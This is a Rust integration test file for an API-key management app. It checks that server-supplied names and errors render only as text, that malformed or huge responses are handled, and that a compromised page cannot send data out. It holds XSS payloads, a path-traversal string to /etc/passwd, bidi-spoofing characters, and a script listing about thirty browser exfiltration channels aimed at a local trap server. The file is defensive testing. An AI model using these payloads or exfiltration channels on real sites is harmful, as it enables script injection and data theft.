//! Bad input, from the person and from the server.

use jiff::SignedDuration;
use palette_sim::{Fault, Matcher, NewKey, Seed, SimOptions};

use crate::{
    acts::{
        connect, go, listed, open_details, refresh_until, refused, row, search, status, type_key,
        wait_for_keys,
    },
    harness::{Launch, Page, Setting, Stage, any, containing},
};

#[tokio::test(flavor = "multi_thread")]
async fn a_key_pasted_with_line_breaks_and_spaces_works() {
    let mut stage = Stage::new().await;
    let page = stage.launch(Launch::default()).await;
    let key = stage.sim.admin().api_key;
    connect(&page, &stage.sim.origin(), &format!("  \t{key} \r\n\n")).await;
    let kept = stage.secrets(&[("service", crate::acts::SERVICE)]).await;
    assert_eq!(kept[0].secret, key, "the bare key is kept");
}

/// Names that a server may send, and that must be nothing but text.
fn hostile_names() -> Vec<String> {
    let pwn = "window.__pwn=1";
    vec![
        format!("<script>{pwn}</script>"),
        format!("<img src=x onerror=\"{pwn}\">"),
        format!("<svg/onload={pwn}>"),
        format!("\"><iframe srcdoc='<script>parent.{pwn}</script>'>"),
        format!("javascript:{pwn}"),
        format!("{{{{constructor.constructor('{pwn}')()}}}}"),
        format!("${{{pwn}}} {{@html '<b>bold</b>'}}"),
        "&lt;b&gt; &amp; &#x41;".to_owned(),
        "\u{202e}dorp-ic\u{202c} looks reversed".to_owned(),
        "zero\u{200b}width\u{2060}\u{feff}joined".to_owned(),
        "two\nlines\r\nand a\ttab".to_owned(),
        "../../../etc/passwd?x#y".to_owned(),
        "long-".to_owned() + &"n".repeat(10_000),
    ]
}

/// The name as the page shows it: what cannot be seen is written out, and no name is endless.
fn shown(name: &str) -> String {
    let is_hidden = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}' | '\u{202c}' | '\u{202e}' | '\u{2060}' | '\u{feff}')
    };
    let mut letters = Vec::new();
    for c in name.chars() {
        if is_hidden(c) {
            letters.extend(format!("\u{27e8}U+{:04X}\u{27e9}", u32::from(c)).chars());
        } else {
            letters.push(c);
        }
    }
    if letters.len() > 256 {
        letters.splice(128..letters.len() - 127, ['\u{2026}']);
    }
    letters.into_iter().collect()
}

/// White space as the page shows it; to a script the mark U+FEFF is white space too.
fn tidy(text: &str) -> String {
    text.split(|c: char| c.is_whitespace() || c == '\u{feff}')
        .filter(|part| !part.is_empty())
        .collect::<Vec<_>>()
        .join(" ")
}

/// Nothing of what the server sent was run or became part of the page.
async fn assert_only_text(page: &Page) {
    let found = page
        .evaluate(
            "return { pwn: typeof window.__pwn,\n\
               parts: document.querySelectorAll('script:not([src]), iframe, object, embed, [onerror], [onload], img[src=x]').length }",
        )
        .await;
    assert_eq!(found["pwn"], "undefined", "a name was run");
    assert_eq!(found["parts"], 0, "a name became markup");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_with_markup_bidi_and_line_breaks_are_only_text() {
    let palette = SimOptions { seed: Seed::Empty, ..SimOptions::default() };
    let mut stage = Stage::set(Setting { palette, ..Setting::default() }).await;
    let admin = stage.sim.admin();
    let expiry = stage.sim.now().checked_add(SignedDuration::from_hours(24 * 40)).ok();
    for name in hostile_names() {
        let key = NewKey {
            description: format!("About {name}"),
            owner_uid: Some(admin.uid.clone()),
            expiry,
            ..NewKey::named(&name)
        };
        let key = stage.sim.add_key(key);
        stage.sim.edit_key_directly(&key.uid, |key| {
            key.owner_first_name = "<b onclick=alert(1)>Mallory</b>".to_owned();
            key.annotations.insert("note".to_owned(), name.clone());
        });
    }
    let page = stage.launch(Launch::default()).await;
    connect(&page, &stage.sim.origin(), &admin.api_key).await;
    assert_eq!(listed(&page).await, stage.sim.keys().len());
    let cells = page.role("grid", "API keys").role("rowheader", any()).texts().await;
    for name in hostile_names() {
        let wanted = tidy(&shown(&name));
        assert!(
            cells.iter().any(|text| tidy(text).starts_with(&wanted)),
            "{:?} is not shown whole: {:?}",
            wanted.chars().take(60).collect::<String>(),
            cells.iter().map(|text| text.chars().take(60).collect::<String>()).collect::<Vec<_>>(),
        );
    }
    assert_only_text(&page).await;

    // The same in the details, in a dialog, and in the search.
    for name in [&hostile_names()[1], &hostile_names()[8], &hostile_names()[12]] {
        let some: String = name.chars().take(24).collect();
        search(&page, &format!("\"{some}\"")).await;
        let some: String = shown(name).chars().take(24).collect();
        let row = page.role("grid", "API keys").role("row", containing(&some));
        row.role("rowheader", any()).click().await;
        let details = page.role("region", "Key details");
        let heading = details.role("heading", containing(&some)).text().await;
        assert_eq!(tidy(&heading), tidy(&shown(name)));
        assert_only_text(&page).await;
        details.role("button", "Delete").click().await;
        let dialog = page.role("dialog", any());
        dialog.role("button", "Cancel").wait().await;
        assert_only_text(&page).await;
        dialog.role("button", "Cancel").click().await;
        dialog.wait_gone().await;
    }
    let width = page
        .evaluate(
            "return document.documentElement.scrollWidth - document.documentElement.clientWidth",
        )
        .await;
    assert_eq!(width, 0, "10 kB of name do not push the window apart");

    // A short word about an act, and what is kept of it.
    let name = &hostile_names()[1];
    search(&page, "onerror").await;
    let row = page.role("grid", "API keys").role("row", containing(name));
    row.role("rowheader", any()).click().await;
    page.role("region", "Key details").role("button", "Revoke").click().await;
    page.words(format!("Revoked {name}.")).wait().await;
    go(&page, "Activity").await;
    page.role("heading", "Activity").wait().await;
    page.words(containing(name)).nth(0).wait().await;
    assert_only_text(&page).await;
}

/// Refreshes under this fault; the words of the error must appear, and the old list stay.
async fn refresh_under(stage: &Stage, page: &Page, fault: Fault, words: &str) {
    stage.sim.set_fault(Matcher::on("GET", "/v1/apiKeys"), fault, None);
    refresh_until(page, &page.role("alert", any()), words).await;
    row(page, "ci-prod").wait().await;
    stage.sim.clear_faults();
    refresh_until(page, &status(page), "As of ").await;
    page.role("alert", any()).wait_gone().await;
}

/// Peak of the app's memory so far, in MB.
fn peak(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap_or_default();
    let kilobytes = line.split_whitespace().nth(1).and_then(|text| text.parse::<u64>().ok());
    kilobytes.unwrap_or_default() / 1024
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unreadable_answer_is_told_and_the_old_list_stays() {
    let mut stage = Stage::new().await;
    let page = stage.launch(Launch::default()).await;
    connect(&page, &stage.sim.origin(), &stage.sim.admin().api_key).await;
    let before = listed(&page).await;
    for (fault, words) in [
        (Fault::CutBody { at: 2_000 }, "broke before its answer was complete"),
        (
            Fault::GarbageJson("{\"items\":[{\"metadata\":{\"na".to_owned()),
            "could not be understood",
        ),
        (Fault::GarbageJson("[1,2".to_owned()), "could not be understood"),
        (Fault::HtmlOk, "does not look like Palette"),
        (Fault::error(500, "InternalServerError", "Something went wrong"), "a fault of its own"),
    ] {
        refresh_under(&stage, &page, fault, words).await;
        assert_eq!(listed(&page).await, before);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_of_one_gigabyte_is_refused_without_eating_the_memory() {
    let mut stage = Stage::new().await;
    let page = stage.launch(Launch::default()).await;
    connect(&page, &stage.sim.origin(), &stage.sim.admin().api_key).await;
    let before = peak(stage.app_pid());
    refresh_under(
        &stage,
        &page,
        Fault::HugeBody { bytes: 1 << 30 },
        "larger answer than Palette Keys accepts",
    )
    .await;
    let grown = peak(stage.app_pid()).saturating_sub(before);
    assert!(grown <= 64, "the app grew by {grown} MB");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_items_and_unknown_fields_are_an_empty_list() {
    let mut stage = Stage::new().await;
    let nothing = r#"{"items":null,"listmeta":{"count":0},"fromTheFuture":{"a":[1]}}"#;
    stage.sim.set_fault(
        Matcher::on("GET", "/v1/apiKeys"),
        Fault::GarbageJson(nothing.to_owned()),
        None,
    );
    let page = stage.launch(Launch::default()).await;
    type_key(&page, &stage.sim.origin(), &stage.sim.admin().api_key).await;
    page.role("button", "Connect").click().await;
    wait_for_keys(&page).await;
    page.role("heading", containing("no API keys yet")).wait().await;
    assert_eq!(page.role("alert", any()).count().await, 0, "an empty tenant is no error");

    stage.sim.clear_faults();
    refresh_until(&page, &row(&page, "ci-prod"), "ci-prod").await;
}

/// The status word in a key's row.
async fn status_of(page: &Page, name: &str) -> String {
    search(page, name).await;
    let text = row(page, name).text().await;
    let word = ["Active", "Expiring", "Expired", "Revoked"].into_iter().find(|w| text.contains(w));
    word.unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_clock_that_is_off_by_a_year_does_not_change_what_is_true() {
    const YEAR: i64 = 365 * 24 * 3600;
    for (offset, name, word) in [
        (YEAR, "backup-verify", "Expired"),
        (-YEAR, "vertex-sandbox", "Active"),
        (0, "ci-prod", "Expiring"),
    ] {
        let mut stage = Stage::new().await;
        // A key without an end, so that it works at both times.
        let key = stage.sim.key_named("pcg-installer").unwrap().value;
        stage.sim.set_clock_offset_seconds(offset);
        let page = stage.launch(Launch::default()).await;
        connect(&page, &stage.sim.origin(), &key).await;
        assert_eq!(status_of(&page, name).await, word, "{offset} s off");
        let shown = open_details(&page, name).await.text().await;
        assert!(shown.contains(if word == "Expired" { "ago" } else { "in " }), "{shown}");
        status(&page).wait_text("As of ").await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_server_says_of_an_error_is_only_text() {
    let mut stage = Stage::new().await;
    let message = "<img src=x onerror=\"window.__pwn=1\"> \u{202e}lla tserof";
    stage.sim.set_fault(Matcher::any(), Fault::error(422, "<b>Odd</b>", message), None);
    let page = stage.launch(Launch::default()).await;
    type_key(&page, &stage.sim.origin(), &stage.sim.admin().api_key).await;
    page.role("button", "Connect").click().await;
    refused(&page, "<img src=x onerror=").await;
    page.words("Details").click().await;
    page.words("<b>Odd</b>").wait().await;
    assert_only_text(&page).await;
}

/// Ways in which a page that was taken over could try to send something out (trust.md, check 27).
const WAYS_OUT: &str = r##"
const [to, name] = arguments;
const add = (tag, attributes, inside) => {
  const element = Object.assign(document.createElement(tag), attributes);
  if (inside) element.append(inside);
  document.body.append(element);
  return element;
};
const ways = {
  fetch: () => fetch(`${to}/fetch`),
  blindFetch: () => fetch(`${to}/blind`, { mode: "no-cors", method: "POST", body: "x" }),
  xhr: () => { const request = new XMLHttpRequest(); request.open("GET", `${to}/xhr`); request.send(); },
  beacon: () => navigator.sendBeacon(`${to}/beacon`, "x"),
  socket: () => new WebSocket(to.replace("http", "ws")),
  events: () => new EventSource(`${to}/events`),
  image: () => add("img", { src: `${to}/image.png` }),
  frame: () => add("iframe", { src: `${to}/frame` }),
  object: () => add("object", { data: `${to}/object` }),
  embed: () => add("embed", { src: `${to}/embed` }),
  script: () => add("script", { src: `${to}/script.js` }),
  style: () => add("link", { rel: "stylesheet", href: `${to}/style.css` }),
  imported: () => add("style", { textContent: `@import url("${to}/imported.css");` }),
  font: () => new FontFace("trap", `url(${to}/font.woff2)`).load(),
  prefetch: () => add("link", { rel: "prefetch", href: `${to}/prefetch` }),
  preload: () => add("link", { rel: "preload", as: "image", href: `${to}/preload` }),
  video: () => add("video", { src: `${to}/video.mp4`, autoplay: true }),
  module: () => import(`${to}/module.js`),
  worker: () => new Worker(`${to}/worker.js`),
  data: () => add("iframe", { src: `data:text/html,<img src=${to}/data>` }),
  inline: () => add("script", { textContent: `fetch("${to}/inline")` }),
  eval: () => eval(`fetch("${to}/eval")`),
  made: () => new Function(`fetch("${to}/made")`)(),
  popup: () => window.open(`${to}/popup`),
  form: () => add("form", { action: `${to}/form`, method: "post" }).submit(),
  link: () => add("a", { href: `${to}/link`, target: "_blank" }).click(),
  ping: () => add("a", { href: "#", ping: `${to}/ping` }).click(),
  refresh: () => { const meta = add("meta", { httpEquiv: "refresh", content: `0;url=${to}/refresh` }); document.head.append(meta); },
  leave: () => location.assign(`${to}/leave`),
};
if (name === undefined) return Object.keys(ways);
try { Promise.resolve(ways[name]()).catch(() => {}); } catch { /* refused, as it should be */ }
// Long enough for a connection on loopback.
await new Promise((done) => setTimeout(done, 60));
"##;

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_cannot_send_anything_out() {
    let mut stage = Stage::new().await;
    let trap = palette_sim::start(SimOptions::default()).await.unwrap();
    let page = stage.launch(Launch::demo()).await;
    wait_for_keys(&page).await;
    let ways = page.evaluate_with(WAYS_OUT, serde_json::json!([trap.origin()])).await;
    let ways = ways.as_array().expect("their names").clone();
    assert!(ways.len() > 20, "{ways:?}");
    let mut open = Vec::new();
    let mut connections = 0;
    for way in ways {
        page.evaluate_with(WAYS_OUT, serde_json::json!([trap.origin(), way])).await;
        if trap.connections() > connections {
            connections = trap.connections();
            open.push(way);
        }
    }
    assert_eq!(open, Vec::<serde_json::Value>::new(), "these got out: {:?}", trap.requests());
    page.role("heading", "API keys").wait().await;
    assert_eq!(page.windows().await.len(), 1);
}
